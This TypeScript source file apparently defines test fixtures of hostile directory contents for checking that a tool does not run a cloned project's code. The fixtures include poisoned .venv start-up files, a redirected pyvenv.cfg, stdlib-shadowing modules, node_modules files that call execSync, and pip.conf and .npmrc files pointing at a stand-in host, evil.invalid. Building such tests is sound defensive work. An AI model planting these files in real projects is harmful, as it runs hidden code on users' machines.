import type { Files, Ground } from "./ground.ts";

/** What a clone may bring. */
export interface Clone {
  /** As a sentence's subject; the threat's mark is `mark`. */
  readonly name: string;
  readonly mark: string;
  files(ground: Ground, directory: string): Files;
  /** So that a payload which can't be run is no proof: what starts it on purpose, in the directory. */
  readonly started: string | null;
}

const minors = [9, 10, 11, 12, 13, 14, 15];

/** Every kind of hostile content of a directory, by the threat that it is. */
export const clones: readonly Clone[] = [
  {
    name: "a .venv with start-up files",
    mark: "T1",
    files({ sing, singInPython }) {
      const line = `import os; os.system(${JSON.stringify(sing)})\n`;
      const site = {
        "evil.pth": line,
        "distutils-precedence.pth": line,
        "sitecustomize.py": singInPython,
        "evil.start": "evil:main\n",
        "evil.py": `def main():\n    ${singInPython}\n`,
        "pip/__init__.py": singInPython,
        "pip/__main__.py": singInPython,
      };
      const files: Record<string, Files[string]> = {
        ".venv/pyvenv.cfg": "home = /usr/bin\ninclude-system-site-packages = false\n",
        ".venv/bin/python": { link: "/usr/bin/python3" },
        ".venv/bin/python3": { link: "python" },
      };
      for (const minor of minors)
        for (const [file, text] of Object.entries(site))
          files[`.venv/lib/python3.${minor}/site-packages/${file}`] = text;
      return files;
    },
    started: ".venv/bin/python -c pass",
  },
  {
    name: "a .venv whose programs are scripts",
    mark: "T2",
    files({ sing }) {
      const programs = ["python", "python3", "pip", "pip3", "activate", "node"];
      return {
        ".venv/pyvenv.cfg": "home = /usr/bin\nversion = 3.11.2\n",
        ...Object.fromEntries(
          programs.map((name) => [`.venv/bin/${name}`, { program: `#!/bin/sh\n${sing}\n` }]),
        ),
      };
    },
    started: ".venv/bin/pip",
  },
  {
    name: "a .venv whose pyvenv.cfg leads elsewhere",
    mark: "T3",
    files({ sing }, directory) {
      const files: Record<string, Files[string]> = {
        ".venv/pyvenv.cfg": `home = ${directory}/evil/bin\n`,
        ".venv/bin/python": { link: "/usr/bin/python3" },
      };
      for (const minor of minors) {
        // os.py is the landmark by which Python takes a directory for its library.
        files[`evil/lib/python3.${minor}/os.py`] = "";
        // There is no open() yet when this is imported.
        files[`evil/lib/python3.${minor}/encodings/__init__.py`] =
          `import posix; posix.system(${JSON.stringify(sing)})`;
      }
      return files;
    },
    started: ".venv/bin/python -I -c pass",
  },
  {
    name: "configuration of pip's",
    mark: "T4",
    files() {
      const text = "[global]\nindex-url = https://evil.invalid/simple\ntarget = /nonexistent\n";
      return { ".venv/pip.conf": text, "pip.conf": text, ".pip/pip.conf": text, "pip/pip.conf": text };
    },
    started: null,
  },
  {
    name: "modules with the names of Python's",
    mark: "T5",
    files({ singInPython }) {
      const names =
        "venv ensurepip re json logging os site sitecustomize usercustomize fcntl safe_pip_runner";
      return Object.fromEntries(names.split(" ").map((name) => [`${name}.py`, singInPython]));
    },
    started: "/usr/bin/python3 -c 'import json'",
  },
  {
    name: "what Node would read",
    mark: "T28",
    files({ sing }) {
      const text = `require("node:child_process").execSync(${JSON.stringify(sing)})`;
      const names = ["smol-toml", "valibot", "picocolors", "env-paths"];
      return {
        ...Object.fromEntries(names.map((name) => [`node_modules/${name}/index.js`, text])),
        "package.json": '{"type": "module", "main": "evil.js"}',
        ".npmrc": "registry=https://evil.invalid\n",
      };
    },
    started: `node -e "require('valibot')"`,
  },
];
